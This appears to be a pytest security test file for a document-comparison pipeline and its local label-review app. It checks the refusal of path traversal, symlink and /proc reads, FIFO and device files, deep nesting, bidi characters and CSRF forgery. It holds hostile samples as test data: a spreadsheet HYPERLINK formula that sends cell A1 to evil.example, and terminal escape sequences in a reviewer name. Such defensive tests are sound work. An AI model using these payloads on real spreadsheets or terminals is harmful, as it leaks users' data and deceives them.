"""Hostile input and faults (issue 14): what a case folder, a report folder or a page of
another site can make the tool do. Each test feeds one kind of bad input and checks the
one-line refusal (or the safe reading) that replaced a file leak, a hang, a traceback, a
forged label or an orphan process. No model is loaded here.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner
from review_fixtures import CASE_ID, report_data, write_report

from pipeline.batch import FINGERPRINT_NAME, CaseOutcome, case_inputs, read_manifest_table, run_batch
from pipeline.batch.fingerprints import commit_case, is_current
from pipeline.commands import review as review_commands
from pipeline.config import RunConfig
from pipeline.errors import BatchError, CaseError, DivergenceError, LabelError, ReportError
from pipeline.stages.ingest import ReadOptions, read_case, read_document
from pipeline.labels import Label, LabelStore
from pipeline.manifest import load_manifest
from pipeline.review import create_app, load_case
from tests.conftest import REPO, write_case

US = "THE PRESIDENT: We lifted the sanctions.\n"
SECRET = "root:x:0:0:a secret line that must never reach a report\n"
LOCAL = "http://127.0.0.1"
CASE = f"/cases/{CASE_ID}"
CONFIG = RunConfig(classifier="none")


def two_doc_case(root: Path, b_path: str, *, b_content: str | bytes | None = None, b_name: str = "b.txt") -> Path:
    """The issue's ``mk``: a US document and a DPRK document at ``b_path`` (written when content is given)."""
    write_case(root, {"a.txt": ("a", "US", US)})
    if b_content is not None:
        data = b_content.encode("utf-8") if isinstance(b_content, str) else b_content
        (root / b_name).write_bytes(data)
    manifest = root / "case.toml"
    manifest.write_text(manifest.read_text() + f'[[documents]]\nid = "b"\nside = "DPRK"\npath = {json.dumps(b_path)}\n')
    return root


def only_error(case_dir: Path, **options: object) -> CaseError:
    """The one document error of a two-document case, and check the good one was still read."""
    case = load_manifest(case_dir)
    documents, errors = read_case(case, options=ReadOptions(**options))
    assert [d.spec.id for d in documents] == ["a"] and len(errors) == 1, errors
    return errors[0]


def read_b(case_dir: Path, **options: object):
    case = load_manifest(case_dir)
    return read_document(case, case.documents[1], options=ReadOptions(**options))


def finishes(fn, seconds: float = 10.0):
    """``fn()``'s result, or a failure (not a hung test) when it does not return in time."""
    box: dict[str, object] = {}

    def target() -> None:
        try:
            box["value"] = fn()
        except BaseException as err:  # noqa: BLE001 - handed to the test
            box["error"] = err

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"still running after {seconds}s (hangs)"
    if "error" in box:
        raise box["error"]  # type: ignore[misc]
    return box["value"]


# --- 1. a case reads only its own files --------------------------------------------------


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "private" / "id_key.txt"
    path.parent.mkdir()
    path.write_text(SECRET)
    return path


@pytest.mark.parametrize("how", ["relative", "absolute", "symlink", "symlinked-folder", "proc"])
def test_documents_outside_the_case_folder_are_refused(tmp_path: Path, secret: Path, how: str) -> None:
    case_dir = tmp_path / "case"
    if how == "relative":
        two_doc_case(case_dir, "../private/id_key.txt")
    elif how == "absolute":
        two_doc_case(case_dir, str(secret))
    elif how == "symlink":
        two_doc_case(case_dir, "b.txt")
        (case_dir / "b.txt").symlink_to(secret)
    elif how == "symlinked-folder":
        two_doc_case(case_dir, "docs/id_key.txt")
        (case_dir / "docs").symlink_to(secret.parent, target_is_directory=True)
    else:
        two_doc_case(case_dir, "/proc/self/status")
    err = only_error(case_dir)
    assert err.code == "E018" and "outside the case folder" in str(err), str(err)
    assert "\n" not in str(err)


def test_symlinks_that_stay_inside_the_case_and_allowed_roots_are_read(tmp_path: Path, secret: Path) -> None:
    case_dir = two_doc_case(tmp_path / "case", "b.txt", b_content="FOREIGN MINISTER RI: Five of eleven.\n",
                            b_name="real-b.txt")
    (case_dir / "b.txt").symlink_to(case_dir / "real-b.txt")
    assert read_b(case_dir).text.startswith("FOREIGN MINISTER RI")
    # a root the user names (--allow-root) is allowed; the manifest cannot name one itself
    outside = two_doc_case(tmp_path / "case2", str(secret))
    assert read_b(outside, allowed_roots=(secret.parent,)).text == SECRET


def test_the_run_command_copies_no_outside_file_into_the_report(tmp_path: Path, secret: Path, monkeypatch) -> None:
    """The issue's first reproduction, through the CLI, up to the point where models would load."""
    from pipeline.cli import app

    case_dir = two_doc_case(tmp_path / "t1", str(secret))
    loaded = []
    monkeypatch.setattr("pipeline.runner.Models.cached", lambda config: loaded.append(config) or None)

    def analyse(case_dir, **kwargs):
        case = load_manifest(case_dir)
        documents, errors = read_case(case, options=ReadOptions(allowed_roots=kwargs["allowed_roots"]))
        raise errors[0] if errors else AssertionError(f"read {[d.spec.path for d in documents]}")

    monkeypatch.setattr("pipeline.runner.analyse_case", analyse)
    result = CliRunner().invoke(app, ["run", str(case_dir), "--out", str(tmp_path / "o1")])
    assert result.exit_code == 2 and "[E018]" in result.output and "root:x" not in result.output
    assert not (tmp_path / "o1" / "report.json").exists()


@pytest.mark.parametrize("kind", ["fifo", "folder", "device"])
def test_only_regular_files_are_read(tmp_path: Path, kind: str) -> None:
    case_dir = two_doc_case(tmp_path / "case", "b.txt" if kind != "device" else "/dev/zero")
    roots = ()
    if kind == "fifo":
        os.mkfifo(case_dir / "b.txt")  # nobody writes to it: reading it would wait for ever
    elif kind == "folder":
        (case_dir / "b.txt").mkdir()
    else:
        roots = (Path("/dev"),)  # even where the user allowed the folder, a device is no document
    err = finishes(lambda: only_error(case_dir, allowed_roots=roots))
    assert err.code == "E019", str(err)


def test_batch_checks_documents_before_hashing_them(tmp_path: Path) -> None:
    """/dev/zero grew a batch past 3 GB and a FIFO hung it: both are refused before a byte is read.

    In a child process with a 1 GB address-space limit and a timeout, so that a regression
    fails this test instead of the machine.
    """
    fifo_case = two_doc_case(tmp_path / "b2" / "z", "b.txt")
    os.mkfifo(fifo_case / "b.txt")
    zero_case = two_doc_case(tmp_path / "b" / "z", "/dev/zero")
    script = textwrap.dedent(f"""
        import resource, sys
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
        from pathlib import Path
        from pipeline.batch import case_inputs
        for case_dir in ({str(fifo_case)!r}, {str(zero_case)!r}):
            case, digest, size = case_inputs(case_dir, allowed_roots=(Path("/dev"),))
            print(case.id, size)
    """)
    result = subprocess.run([sys.executable, "-c", script], cwd=REPO, capture_output=True, text=True, timeout=60,
                            env={**os.environ, "PYTHONPATH": str(REPO)})
    assert result.returncode == 0, result.stderr[-2000:]
    assert [line.split()[1] for line in result.stdout.split("\n") if line] == [str(len(US) + s) for s in (
        len((fifo_case / "case.toml").read_bytes()), len((zero_case / "case.toml").read_bytes()))]


def test_a_refused_document_changes_the_fingerprint_once_fixed(tmp_path: Path, secret: Path) -> None:
    case_dir = two_doc_case(tmp_path / "case", str(secret))
    _, refused, _ = case_inputs(case_dir)
    _, allowed, _ = case_inputs(case_dir, allowed_roots=(secret.parent,))
    assert refused != allowed  # the marker names the refusal; the outside file is not hashed into it


def test_manifest_table_documents_stay_beside_the_table(tmp_path: Path, secret: Path) -> None:
    from pipeline.batch import find_input

    inputs = tmp_path / "inputs"
    inputs.mkdir()
    (inputs / "us.txt").write_text(US)
    (inputs / "manifest.csv").write_text("path,case,side,speaker,date\nus.txt,t,US,,\n"
                                         f"../private/{secret.name},t,DPRK,,\n{secret},t2,DPRK,,\nus.txt,t2,US,,\n")
    folders, roots = find_input(inputs, out_dir=tmp_path / "out")
    assert roots == (inputs.resolve(),) and len(folders) == 2  # cases t and t2
    for folder in folders:
        documents, errors = read_case(load_manifest(folder), options=ReadOptions(allowed_roots=roots))
        assert [d.spec.side for d in documents] == ["US"]
        assert [e.code for e in errors] == ["E018"]


# --- 3. limits: one line, not a traceback --------------------------------------------------


def test_a_line_over_the_limit_is_one_line_error(tmp_path: Path) -> None:
    from pipeline.stages.ingest import MAX_LINE_CHARS

    long_line = "FOREIGN MINISTER RI: " + "We asked for five resolutions " * (MAX_LINE_CHARS // 30 + 10)
    case_dir = two_doc_case(tmp_path / "t2", "b.txt", b_content=long_line + "\n")
    err = only_error(case_dir)
    assert err.code == "E020" and "line 1 is" in str(err) and "over the 100,000-character limit" in str(err)


def test_html_nested_a_thousand_deep_is_refused_before_parsing(tmp_path: Path) -> None:
    case_dir = two_doc_case(tmp_path / "t3", "b.html", b_content="<div>" * 1000 + "x." + "</div>" * 1000,
                            b_name="b.html")
    err = only_error(case_dir)
    assert err.code == "E021" and "HTML is nested more than" in str(err)


def test_ordinary_html_with_implied_end_tags_is_not_counted_as_deep(tmp_path: Path) -> None:
    page = ("<html><body><div><ul>" + "<li><p>FOREIGN MINISTER RI: We asked for five.<br>" * 600
            + "</ul>" + "<script>" + "<div>" * 500 + "</script></div></body></html>")
    case_dir = two_doc_case(tmp_path / "ok", "b.html", b_content=page, b_name="b.html")
    assert read_b(case_dir).text.count("We asked for five.") == 600


def test_toml_nested_deep_is_a_manifest_error(tmp_path: Path) -> None:
    case_dir = tmp_path / "x"
    case_dir.mkdir()
    (case_dir / "case.toml").write_text('id = "x"\nv = ' + "[" * 600 + "]" * 600 + "\n")
    with pytest.raises(CaseError, match=r"case.toml is nested more than 64 levels deep \[E021\]"):
        load_manifest(case_dir)
    with pytest.raises(CaseError, match="E021"):  # the batch's pre-check: one failed case, not an aborted batch
        case_inputs(case_dir)


def test_json_nested_deep_is_refused(tmp_path: Path) -> None:
    case_dir = two_doc_case(tmp_path / "j", "b.json", b_content="[" * 100_000 + "]" * 100_000, b_name="b.json")
    assert only_error(case_dir).code == "E021"
    table = tmp_path / "manifest.jsonl"
    table.write_text('{"path": "a.txt", "case": "c", "side": "US", "speaker": null, "date": null, "x": '
                     + "[" * 100_000 + "]" * 100_000 + "}\n")
    with pytest.raises(CaseError, match="manifest row is nested more than"):
        read_manifest_table(table)


def test_too_many_documents_are_refused(tmp_path: Path) -> None:
    from pipeline.manifest import MAX_DOCUMENTS

    case_dir = tmp_path / "many"
    case_dir.mkdir()
    docs = "".join(f'[[documents]]\nid = "d{i}"\nside = "{"US" if i % 2 else "DPRK"}"\npath = "d{i}.txt"\n'
                   for i in range(MAX_DOCUMENTS + 1))
    (case_dir / "case.toml").write_text('id = "many"\n' + docs)
    with pytest.raises(CaseError, match=f"{MAX_DOCUMENTS + 1} documents, over the limit"):
        load_manifest(case_dir)


@pytest.mark.parametrize("second", ["a.txt", "./a.txt", "sub/../a.txt", "link.txt"])
def test_a_document_listed_twice_is_an_error(tmp_path: Path, second: str) -> None:
    case_dir = two_doc_case(tmp_path / "dup", second)
    (case_dir / "sub").mkdir()
    (case_dir / "link.txt").symlink_to(case_dir / "a.txt")
    with pytest.raises(CaseError, match=r"documents 'a' and 'b' are the same file.*\[E023\]"):
        load_manifest(case_dir)


# --- 4. encodings and invisible characters -------------------------------------------------


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_without_bom_is_decoded(tmp_path: Path, codec: str) -> None:
    text = "FOREIGN MINISTER RI: We asked for five of the eleven resolutions — not all.\n"
    case_dir = two_doc_case(tmp_path / "u", "b.txt", b_content=text.encode(codec))
    document = read_b(case_dir)
    assert document.text == text and document.encoding == codec
    assert any("decoded as " + codec in w for w in document.warnings)


def test_nul_bytes_are_removed_with_a_warning(tmp_path: Path) -> None:
    body = "FOREIGN MINISTER RI: We asked for five.\n" * 300  # > 8 KB, so a late NUL escaped the binary check
    case_dir = two_doc_case(tmp_path / "n", "b.txt", b_content=body[:100] + "\x00" + body[100:] + "Q\x00 Why?\n")
    document = read_b(case_dir)
    assert "\x00" not in document.text and document.text.endswith("Q Why?\n")
    assert any("removed 2 NUL bytes" in w and "[W004]" in w for w in document.warnings)
    binary = two_doc_case(tmp_path / "bin", "b.txt", b_content=bytes(range(256)) * 40)
    assert only_error(binary).code == "E008"  # a real binary file is still refused


@pytest.mark.parametrize(("name", "content"), [
    ("b.txt", "FOREIGN MINISTER RI: We asked for \u202efive\u202c resolutions.\n"),
    ("b.html", "<p>FOREIGN MINISTER RI: We asked for &#8238;five&#8236; resolutions.</p>"),
    ("b.json", json.dumps([{"speaker": "Ri", "text": "We asked for \u2067five\u2069 resolutions."}])),
])
def test_bidirectional_controls_are_removed(tmp_path: Path, name: str, content: str) -> None:
    case_dir = two_doc_case(tmp_path / "bidi", name, b_content=content, b_name=name)
    document = read_b(case_dir)
    assert "We asked for five resolutions." in document.text
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", document.text)


# --- 3/4. batch: output folder and output integrity -----------------------------------------


def test_batch_out_that_is_a_file_or_under_a_file_is_one_line(tmp_path: Path) -> None:
    from pipeline.cli import app

    case_dir = two_doc_case(tmp_path / "cases" / "c", "b.txt", b_content="FOREIGN MINISTER RI: Five.\n")
    afile = tmp_path / "f"
    afile.write_text("x\n")
    for out, detail in ((afile, "it is a file, not a folder"), (afile / "sub", "Not a directory")):
        with pytest.raises(BatchError, match=re.escape(f"{out}: cannot write to the output folder: {detail} [E118]")):
            run_batch(case_dir, out, config=CONFIG)
        result = CliRunner().invoke(app, ["--classifier", "none", "batch", str(case_dir), "--out", str(out)])
        assert result.exit_code == 2 and result.output.strip() == f"error: {out}: cannot write to the output folder: {detail} [E118]"
    assert afile.read_text() == "x\n"


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write to any folder")
def test_batch_out_in_an_unwritable_folder_is_one_line(tmp_path: Path) -> None:
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o555)
    with pytest.raises(BatchError, match="E118"):
        run_batch(two_doc_case(tmp_path / "c", "b.txt", b_content="Q Five?\n"), locked, config=CONFIG)


@pytest.mark.parametrize("tamper", ["truncate-json", "empty-object", "edit-json", "empty-html", "delete-html"])
def test_fingerprint_vouches_for_the_outputs(tmp_path: Path, tamper: str) -> None:
    """An output edited after the run is not kept as up to date (the batch then recomputes it)."""
    report = json.dumps({"schema_version": 1, "case": {"id": "c"}, "divergences": [{"id": f"d{i}"} for i in range(44)]},
                        indent=1)
    outcome = CaseOutcome("c", "cases/c", "ok", 1.0, fingerprint="f" * 64, report_json=report,
                          report_html="<html>report</html>\n")
    case_out = tmp_path / "c"
    commit_case(outcome, case_out)
    assert is_current(case_out, "f" * 64) and not is_current(case_out, "e" * 64)
    js, html = case_out / "report.json", case_out / "report.html"
    {"truncate-json": lambda: os.truncate(js, 1000),
     "empty-object": lambda: js.write_text("{}"),
     "edit-json": lambda: js.write_text(report.replace('"d43"', '"d99"')),
     "empty-html": lambda: html.write_text(""),
     "delete-html": html.unlink}[tamper]()
    assert not is_current(case_out, "f" * 64)
    lines = (case_out / FINGERPRINT_NAME).read_text().splitlines()
    assert lines[0] == "f" * 64 and f"{hashlib.sha256(report.encode()).hexdigest()}  report.json" in lines


def test_batch_workers_die_with_a_killed_driver(tmp_path: Path) -> None:
    """kill -9 of `batch --workers 2` left two 1.1 GB workers alive; now they follow the driver.

    The driver runs the real local engine with a spaCy model that does not exist, so the
    workers start (and stay in the pool) without loading any model.
    """
    jobs = [two_doc_case(tmp_path / f"c{i}", "b.txt", b_content="Q Five?\n") for i in range(2)]
    script = textwrap.dedent(f"""
        import multiprocessing, sys, time
        from pipeline.batch import BatchConfig, Job
        from pipeline.batch.local import local_engine
        from pipeline.config import RunConfig
        if __name__ == "__main__":
            config = RunConfig(spacy_model="/no/such/model", classifier="none")
            jobs = [Job(f"c{{i}}", d, "x", 1) for i, d in enumerate({[str(j) for j in jobs]!r})]
            stream = local_engine(jobs, config=config, options=BatchConfig(workers=2, threads_per_worker=1))
            next(stream)
            print(" ".join(str(p.pid) for p in multiprocessing.active_children()
                           if p.name.startswith(("SpawnProcess", "Process"))), flush=True)
            time.sleep(120)
    """)
    driver = subprocess.Popen([sys.executable, "-c", script], cwd=REPO, stdout=subprocess.PIPE, text=True,
                              env={**os.environ, "PYTHONPATH": str(REPO)})
    try:
        line = finishes(driver.stdout.readline, 120)
        workers = [int(p) for p in line.split()]
        assert len(workers) == 2, line
        os.kill(driver.pid, signal.SIGKILL)
        driver.wait(10)
        deadline = time.monotonic() + 10
        alive = workers
        while alive and time.monotonic() < deadline:
            time.sleep(0.2)
            alive = [p for p in alive if _alive(p)]
        assert not alive, f"workers {alive} outlived the driver"
    finally:
        driver.kill()
        for pid in workers if "workers" in locals() else []:
            if _alive(pid):
                os.kill(pid, signal.SIGKILL)


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().split(")")[-1].split()[0] != "Z"  # a zombie has exited
    except FileNotFoundError:
        return False


# --- 2. the review app: no forged label ------------------------------------------------------


@pytest.fixture
def store(tmp_path: Path) -> LabelStore:
    return LabelStore(tmp_path / "labels.sqlite")


@pytest.fixture
def client(tmp_path: Path, store: LabelStore) -> TestClient:
    client = TestClient(create_app([write_report(tmp_path / "reports")], store=store, reviewer="ann"), base_url=LOCAL)
    assert client.get("/").status_code == 200
    return client


def page_token(client: TestClient) -> str:
    return re.search(r'<meta name="csrf-token" content="([^"]+)">', client.get("/").text).group(1)


def test_origin_null_and_cross_site_fetches_are_refused(client: TestClient, store: LabelStore) -> None:
    token = page_token(client)
    path = f"{CASE}/divergences/div-walk"
    for headers in ({"Origin": "null"}, {"Sec-Fetch-Site": "same-site"}, {"Sec-Fetch-Site": "cross-site"},
                    {"Origin": "http://127.0.0.1:9999"}):
        reply = client.post(path, data={"decision": "accept", "csrf_token": token}, headers=headers)
        assert reply.status_code == 403, headers
    assert store.labels() == []
    ok = client.post(path, data={"decision": "accept", "csrf_token": token}, follow_redirects=False,
                     headers={"Origin": LOCAL, "Sec-Fetch-Site": "same-origin"})
    assert ok.status_code == 303 and store.labels()[0].reviewer == "ann"


def test_a_cookie_set_by_another_port_cannot_forge_a_label(client: TestClient, store: LabelStore) -> None:
    """Cookies ignore ports: a page on 127.0.0.1:9999 can set ours, but not compute the token."""
    attacker = TestClient(client.app, base_url=LOCAL)
    chosen = "A" * 43
    attacker.cookies.set("divergence_csrf", chosen)
    attacker.cookies.set("divergence_reviewer", "mallory")
    reply = attacker.post(f"{CASE}/divergences/div-walk", data={"decision": "reject", "csrf_token": chosen})
    assert reply.status_code == 403 and store.labels() == []


def test_a_reviewer_name_cookie_set_by_another_page_is_ignored(client: TestClient, store: LabelStore) -> None:
    token = page_token(client)
    client.cookies.set("divergence_reviewer", "mallory")
    client.post(f"{CASE}/divergences/div-walk", data={"decision": "accept", "csrf_token": token})
    assert store.labels()[0].reviewer == "ann"


@pytest.mark.parametrize("token", ["", "   "])
def test_an_empty_access_token_is_an_error_at_start(tmp_path: Path, store: LabelStore, token: str) -> None:
    with pytest.raises(DivergenceError, match="the access token is empty"):
        create_app([write_report(tmp_path / "r")], store=store, token=token)
    result = CliRunner().invoke(_review_cli(), ["review", str(tmp_path / "r"), "--db", str(store.path), "--token", token])
    assert result.exit_code == 2 and "[E096]" in result.output


def _review_cli():
    import typer

    app = typer.Typer()
    review_commands.register(app)
    return app


def test_review_skips_and_names_an_unreadable_report(tmp_path: Path, store: LabelStore, monkeypatch) -> None:
    good = write_report(tmp_path / "good")
    bad = write_report(tmp_path / "bad", {**report_data(), "case": {"id": "other"}})
    (bad / "report.json").write_text('{"schema_version": 1, "case": {"id": "other"}, "claims": [')
    served = []
    monkeypatch.setattr("uvicorn.run", lambda app, **kw: served.append(app))
    result = CliRunner().invoke(_review_cli(), ["review", str(good), str(bad), "--db", str(store.path)])
    assert result.exit_code == 0, result.output
    assert f"warning: skipped {bad / 'report.json'}: malformed report.json" in result.output
    assert "Reviewing 1 report(s)" in result.output
    assert TestClient(served[0], base_url=LOCAL).get(CASE).status_code == 200


@pytest.mark.parametrize("mutate", [
    lambda d: d["divergences"][0].__setitem__("claims", [["us-1"], "kp-1"]),   # unhashable claim id
    lambda d: d["divergences"][0].__setitem__("topic", {"t": 1}),              # unhashable topic
    lambda d: d["divergences"][0].__setitem__("sides", 5),                     # a number where a list belongs
])
def test_malformed_reports_are_one_line_errors(tmp_path: Path, mutate) -> None:
    data = report_data()
    mutate(data)
    folder = write_report(tmp_path / "r", data)
    with pytest.raises(ReportError, match=r"malformed report.json.*\[E090\]"):
        load_case(folder)


def test_a_deeply_nested_report_is_one_line_error(tmp_path: Path) -> None:
    folder = tmp_path / "deep"
    folder.mkdir()
    (folder / "report.json").write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(ReportError, match="E090"):
        load_case(folder)


# --- 6. terminal and spreadsheet outputs ----------------------------------------------------


def _labelled(store: LabelStore, *, reviewer: str = "ann", premise: str = "They wanted all sanctions lifted.") -> None:
    from pipeline.labels import ClaimRef

    store.record(Label.for_flag(case_id="c", divergence_id="d1", decision="accept", reviewer=reviewer,
                                claims=[ClaimRef("us-1", "us", "US", premise), ClaimRef("kp-1", "kp", "DPRK", "=1+1")],
                                predicted_type="scope", type=None, topic="t", score=0.5))


def test_labels_history_escapes_control_characters(store: LabelStore) -> None:
    _labelled(store)
    nasty = "eve\x1b]0;pwned\x07\x1b[2J\u202e"
    with sqlite3.connect(store.path) as conn:  # a name written before names were checked
        conn.execute("UPDATE history SET reviewer = ?", (nasty,))
    result = CliRunner().invoke(_review_cli(), ["labels", "history", "--db", str(store.path)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output and "\u202e" not in result.output
    assert "eve\\x1b]0;pwned\\x07\\x1b[2J\\u202e" in result.output
    with pytest.raises(LabelError, match="control characters"):  # and new names cannot carry them
        _labelled(store, reviewer="eve\x1b[2J")


def test_csv_export_neutralises_formulas_and_training_reads_them_back(store: LabelStore, tmp_path: Path) -> None:
    import pandas as pd

    from pipeline.datasets.nli import load_user_labels

    formula = '=HYPERLINK("http://evil.example/?"&A1, "click")'
    _labelled(store, reviewer="@ann", premise=formula)
    store.record(Label.for_flag(case_id="c", divergence_id="d2", decision="correct", reviewer="ann", type="quantity",
                                claims=[*(__import__("pipeline.labels").labels.ClaimRef(i, "x", s, t) for i, s, t in
                                          (("u2", "US", "+5 tests"), ("k2", "DPRK", "-3 sites")))],
                                predicted_type="scope", topic="t", score=0.5))
    out = tmp_path / "labels.csv"
    store.export(out, format="csv")
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    cells = [c for row in frame.itertuples(index=False) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
    assert "'" + formula in cells and "'@ann" in cells
    pairs = load_user_labels(out)
    assert ("+5 tests", "-3 sites") in set(zip(pairs["premise"], pairs["hypothesis"]))
